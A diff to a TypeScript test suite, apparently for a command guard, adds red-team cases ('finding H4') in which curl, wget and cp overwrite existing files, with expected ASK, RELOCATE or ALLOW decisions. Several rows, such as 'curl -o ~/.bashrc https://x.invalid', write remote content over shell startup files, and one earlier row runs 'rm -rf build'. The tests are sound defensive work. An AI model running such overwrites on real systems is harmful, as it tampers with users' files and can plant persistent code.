@@ -86,11 +86,25 @@ const PROGRAMS: Array<[string, string, Decision, ReasonCode]> = [
   ["rm by its system path is rm", "/usr/bin/rm -rf build", "RELOCATE", "RELOCATE_TREE"],
 ];
 
+// Red-team finding H4: a download or copy replaces an existing file outside the workspace.
+const OVERWRITES: Array<[string, string, Decision, ReasonCode]> = [
+  ["curl -o onto a file in home is asked", "curl -o ~/.bashrc https://x.invalid", "ASK", "ASK_OUTSIDE_WORKSPACE"],
+  ["wget -O onto a file in home is asked", "wget -qO ~/.bashrc https://x.invalid", "ASK", "ASK_OUTSIDE_WORKSPACE"],
+  ["curl --output= onto a workspace file relocates it first", "curl --output=README.md https://x.invalid", "RELOCATE", "RELOCATE_TREE"],
+  ["curl -o to a new workspace file changes nothing there", "curl -sSLo new.tgz https://x.invalid", "ALLOW", "ALLOW_NOOP"],
+  ["curl -o - writes to stdout", "curl -o - https://x.invalid", "ALLOW", "ALLOW_NO_EFFECT"],
+  ["wget -O- writes to stdout", "wget -qO- https://x.invalid", "ALLOW", "ALLOW_NO_EFFECT"],
+  ["copying into home over an existing file is asked", `cp ${T}/.bashrc ~/`, "ASK", "ASK_OUTSIDE_WORKSPACE"],
+  ["copying into a workspace folder over an existing file relocates it", "cp x/out.js build/", "RELOCATE", "RELOCATE_TREE"],
+  ["copying into a workspace folder beside its files changes nothing", "cp README.md build/", "ALLOW", "ALLOW_NOOP"],
+];
+
 for (const [title, rows] of [
   ["red team: paths an earlier part of the line fills", LANDED],
   ["red team: parts of a line that do not meet", UNCHANGED],
   ["red team: moves out of the workspace", MOVED_OUT],
   ["red team: programs run by path or changed PATH", PROGRAMS],
+  ["red team: downloads and copies onto existing files", OVERWRITES],
 ] as const) {
   describe(title, () => {
     for (const [name, command, decision, reason] of rows) {
